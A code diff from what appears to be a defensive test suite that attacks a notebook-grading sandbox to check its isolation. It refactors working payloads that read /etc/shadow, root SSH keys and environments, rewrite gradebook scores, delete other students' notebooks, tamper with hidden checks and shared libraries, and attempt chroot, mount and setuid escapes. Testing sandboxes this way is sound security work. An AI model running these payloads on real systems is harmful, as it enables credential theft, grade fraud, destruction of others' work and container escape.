@@ -1,9 +1,18 @@
 """Files: nothing of the machine can be read, nothing of it changed. What is found is printed, to be found in turn."""
 
 from attacks.attack import Attack
+from attacks.notebooks import TRIED
 
-FIND = """
-import os
+WALK = """
+import ctypes, os
+libc = ctypes.CDLL(None)
+def walk(top='/'):
+    for folder, folders, files in os.walk(top):
+        folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'venv', '.venv', 'dev', 'lib', '.git')]
+        yield folder, files
+"""
+FIND = f"""
+{WALK}
 def show(path):
     try:
         print(path, open(path, 'rb').read(10**5))
@@ -12,11 +21,8 @@ def show(path):
 roots = [os.path.abspath(os.path.join('.', *['..'] * up)) for up in range(6)] + ['/work', '/home', '/root', '/course']
 def everywhere(*names):
     for top in dict.fromkeys(roots):
-        for folder, folders, files in os.walk(top):
-            folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'venv', '.venv', 'dev', 'lib', '.git')]
-            for name in files:
-                if name in names or name.endswith(names):
-                    yield os.path.join(folder, name)
+        for folder, files in walk(top):
+            yield from (os.path.join(folder, name) for name in files if name in names or name.endswith(names))
 """
 
 ATTACKS = (
@@ -28,21 +34,17 @@ for path in everywhere('gradebook.db'):
     connection.execute('UPDATE grade SET auto_score = 594, manual_score = 594')
     connection.commit()
 """),
-    Attack("system files", "read the machine's users, keys and environment", """
-import os
+    Attack("system files", "read the machine's users, keys and environment", TRIED + """
 for path in ('/etc/passwd', '/etc/shadow', '/root/.ssh/id_rsa', '/root/.bash_history', '/proc/1/environ',
              '/proc/self/environ', '/proc/self/cmdline', '/proc/1/cmdline', '/proc/mounts', '/proc/self/mountinfo'):
-    try:
-        print(path, open(path, 'rb').read(5000))
-    except OSError as error:
-        print(path, error)
+    tried(path, lambda: open(path, 'rb').read(5000))
 print(dict(os.environ))
 """, rich=True),
     Attack("gradebook, later", "change the gradebook when the grader has written it", FIND + """
-import ctypes, sqlite3, time
+import sqlite3, time
 if not os.fork():
     os.setsid()
-    ctypes.CDLL(None).prctl(15, b'attack-daemon', 0, 0, 0)
+    libc.prctl(15, b'attack-daemon', 0, 0, 0)
     while True:
         time.sleep(0.2)
         for path in everywhere('gradebook.db'):
@@ -53,22 +55,9 @@ if not os.fork():
             except Exception:
                 pass
 """),
-    Attack("locked gradebook", "end the batch by holding the database", FIND + """
-import sqlite3, time
-held = []
-for path in everywhere('gradebook.db'):
-    connection = sqlite3.connect(path, isolation_level=None)
-    connection.execute('BEGIN EXCLUSIVE')
-    held.append(connection)
-if held and not os.fork():
-    time.sleep(1000)
-""", rich=True),
-    Attack("submissions of others", "copy a neighbour's answers", FIND + """
-for path in everywhere('.ipynb'):
+    Attack("submissions of others", "copy others' answers, read how they are graded, and erase them", FIND + """
+for path in list(everywhere('.ipynb', 'gradebook.db', 'nbgrader_config.py', 'settings.py', 'judge.py', 'seed')):
     show(path)
-"""),
-    Attack("delete a neighbour", "erase others' work", FIND + """
-for path in list(everywhere('.ipynb', 'gradebook.db')):
     if 'mallory' not in path:
         try:
             os.remove(path)
@@ -90,10 +79,6 @@ import builtins
 builtins.found = found
 get_ipython().events.register('post_run_cell', lambda result: get_ipython().user_ns.update(found))
 """),
-    Attack("settings", "read how it is graded", FIND + """
-for path in everywhere('nbgrader_config.py', 'settings.py', 'judge.py', 'seed'):
-    show(path)
-"""),
     Attack("checks", "read the hidden checks and change them", FIND + """
 for path in everywhere('expect.py', 'masking.py', 'context.py'):
     show(path)
@@ -102,15 +87,10 @@ for path in everywhere('expect.py', 'masking.py', 'context.py'):
     except OSError as error:
         print(error)
 """),
-    Attack("symbolic links", "have the grader follow a link out of the box", """
-import os
+    Attack("symbolic links", "have the grader follow a link out of the box", TRIED + """
 os.makedirs('/tmp/matplotlib', exist_ok=True)
-for name in ('out', 'matplotlib/fontlist.json', '05_scorers.ipynb'):
-    try:
-        os.symlink('/proc/1/root/etc/passwd', f'/tmp/{name}')
-        print(open(f'/tmp/{name}').read())
-    except OSError as error:
-        print(error)
+for path in ('/tmp/out', '/tmp/matplotlib/fontlist.json', '/tmp/05_scorers.ipynb'):
+    tried('', lambda: os.symlink('/proc/1/root/etc/passwd', path), lambda: open(path).read())
 """),
     Attack("libraries", "leave a changed torch to those who come after", """
 import torch, numpy, IPython, sys
@@ -122,40 +102,25 @@ for module in list(sys.modules.values()):
         except OSError:
             pass
 """),
-    Attack("new root", "mount, make devices, change the root", """
-import ctypes, os
-libc = ctypes.CDLL(None)
-for action in (lambda: os.mknod('/tmp/disk', 0o60666, os.makedev(254, 0)), lambda: os.chroot('/tmp'),
-               lambda: libc.mount(b'proc', b'/proc', b'proc', 0, None), lambda: libc.umount2(b'/proc', 2),
-               lambda: libc.unshare(0x10000000), lambda: os.setuid(0), lambda: libc.pivot_root(b'/', b'/tmp')):
-    try:
-        print(action())
-    except (OSError, AttributeError) as error:
-        print(error)
-try:
-    print(open('/proc/1/environ').read(), os.listdir('/proc'))
-except OSError as error:
-    print(error)
+    Attack("new root", "mount, make devices, change the root", TRIED + """
+tried('', lambda: os.mknod('/tmp/disk', 0o60666, os.makedev(254, 0)), lambda: os.chroot('/tmp'),
+      lambda: libc.mount(b'proc', b'/proc', b'proc', 0, None), lambda: libc.umount2(b'/proc', 2),
+      lambda: libc.unshare(0x10000000), lambda: os.setuid(0), lambda: libc.pivot_root(b'/', b'/tmp'),
+      lambda: open('/proc/1/environ').read(), lambda: os.listdir('/proc'))
 """),
-    Attack("leave a word", "pass an answer to a friend through files or the kernel's key rings", """
-import ctypes, os
-for folder, folders, _ in os.walk('/'):
-    folders[:] = [name for name in folders if name not in ('proc', 'sys', 'usr', 'lib', 'venv', '.venv', '.git')]
+    Attack("leave a word", "pass an answer to a friend through files or the kernel's key rings", WALK + """
+for folder, _ in walk():
     try:
         open(os.path.join(folder, 'left-behind'), 'w').write('CANARY-FRIEND')
     except OSError:
         pass
-libc = ctypes.CDLL(None)
 for ring in (-1, -2, -3, -4, -5):
     libc.syscall(248, b'user', b'left-behind', b'CANARY-FRIEND', 13, ring)
 """),
-    Attack("take the word", "read what a friend left behind", """
-import ctypes, os
-for folder, folders, files in os.walk('/'):
-    folders[:] = [name for name in folders if name not in ('proc', 'sys', 'usr', 'lib', 'venv', '.venv', '.git')]
+    Attack("take the word", "read what a friend left behind", WALK + """
+for folder, files in walk():
     if 'left-behind' in files:
         print(open(os.path.join(folder, 'left-behind')).read())
-libc = ctypes.CDLL(None)
 text = ctypes.create_string_buffer(100)
 for ring in (-1, -2, -3, -4, -5):
     key = libc.syscall(250, 10, ring, b'user', b'left-behind', 0)
